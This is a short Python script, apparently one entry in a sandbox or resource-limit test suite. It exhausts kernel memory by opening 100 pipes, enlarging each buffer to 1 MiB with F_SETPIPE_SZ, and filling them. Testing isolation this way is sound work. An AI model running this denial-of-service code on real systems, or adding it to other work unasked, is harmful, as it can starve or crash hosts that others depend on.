"""Takes the kernel's memory in pipes, made as large as they can be (here: 100)."""

import fcntl
import os

from attack import attack, kept


@attack
def _():
    for _ in range(100):
        kept.extend(os.pipe())
        fcntl.fcntl(kept[-1], 1031, 1 << 20)  # F_SETPIPE_SZ
        os.set_blocking(kept[-1], False)
        os.write(kept[-1], bytes(1 << 20))
